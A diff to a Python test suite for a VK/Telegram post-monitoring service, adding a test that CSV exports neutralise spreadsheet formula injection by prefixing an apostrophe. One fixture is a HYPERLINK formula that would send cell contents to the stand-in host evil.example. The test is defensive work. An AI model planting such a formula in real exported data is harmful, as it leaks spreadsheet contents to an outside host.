@@ -5,8 +5,10 @@ VK and Telegram uploads with wrong shapes, saved queries and the analysis
 of stored posts.
 """
 import copy
+import csv
 import gzip
 import http.server
+import io
 import json
 import os
 import sqlite3
@@ -192,9 +194,9 @@ class TestListen(FeedsOnLoopback):
         page = s.get("/listen", {"sentiment": "negative"})
         self.assertEqual(page.status, 200)
         self.assertIn("Свободы", page.text())
-        csv = s.get("/listen.csv", {"query": str(qid)})
-        self.assertEqual(csv.status, 200)
-        self.assertIn("ул. Свободы, 12", csv.text())
+        table = s.get("/listen.csv", {"query": str(qid)})
+        self.assertEqual(table.status, 200)
+        self.assertIn("ул. Свободы, 12", table.text())
 
     def test_formats_and_limits(self):
         s = self.admin()
@@ -258,6 +260,44 @@ class TestListen(FeedsOnLoopback):
                                   json.dumps(doc).encode())])
         return self.fetch("POST", "/api/v1/posts/import", body,
                           {"Content-Type": ctype})
+
+    def test_csv_defuses_formulas(self):
+        """A post whose text starts with = + - @, a tab or a CR reaches the
+        CSV with an apostrophe before it: a spreadsheet shows it and does
+        not run it; quotes, commas and line breaks stay RFC 4180."""
+        s = self.admin()
+        r = s.post("/api/v1/sources", {"name": "formulas",
+                                       "kind": "telegram"})
+        self.assertEqual(r.status, 201, r)
+        texts = ['=HYPERLINK("http://evil.example/?x="&A1,"яма")',
+                 "\t=1+2 яма во дворе", "\r=1+2 яма на дороге",
+                 "+7 ям на улице", "-1 фонарь", "@SUM(1) лужа",
+                 'обычная, "с кавычками"\nи строкой']
+        tg = {"name": "Формулы", "type": "public_supergroup", "id": 11,
+              "messages": [{"id": i + 1, "type": "message",
+                            "date_unixtime": "1781503200",
+                            "from_id": "user%d" % (i + 1), "text": t}
+                           for i, t in enumerate(texts)]}
+        r = self.upload("formulas", tg)
+        self.assertEqual(r.status, 200, r)
+        src = self.sources(s)["formulas"]
+        r = s.get("/listen.csv", {"source": str(src["id"])})
+        self.assertEqual(r.status, 200, r)
+        rows = {x["author"]: x for x in csv.DictReader(
+            io.StringIO(r.text(), newline=""))}
+        got = {rows["user%d" % (i + 1)]["text"] for i in range(len(texts))}
+        posts = s.get("/api/v1/posts.json", {"source": src["id"]}).json()
+        stored = {p["id"]: p["text"] for p in posts["posts"]}
+        self.assertEqual(len(stored), len(texts))
+        for t in stored.values():
+            if t[0] in "=+-@\t\r":
+                self.assertIn("'" + t, got)
+            else:
+                self.assertIn(t, got)
+        self.assertTrue(any(t[0] in "\t\r" for t in stored.values()),
+                        stored)
+        for row in rows.values():
+            self.assertNotIn(row["text"][0], "=+-@\t\r")
 
     def test_uploads(self):
         s = self.admin()
@@ -363,8 +403,11 @@ class TestListen(FeedsOnLoopback):
         self.assertIsNone(by["user3"]["district"])
         page = s.get("/listen/posts/%d" % by["user1"]["id"])
         self.assertIn("Кировский район", page.text())
-        csv = s.get("/listen.csv", {"source": str(srcs["city-tg"]["id"])})
-        self.assertIn("\"\",\"Кировский район\"", csv.text())
+        r = s.get("/listen.csv", {"source": str(srcs["city-tg"]["id"])})
+        rows = {x["author"]: x for x in csv.DictReader(
+            io.StringIO(r.text(), newline=""))}
+        self.assertEqual(rows["user1"]["place"], "")
+        self.assertEqual(rows["user1"]["district"], "Кировский район")
 
 
     def test_admin_page(self):
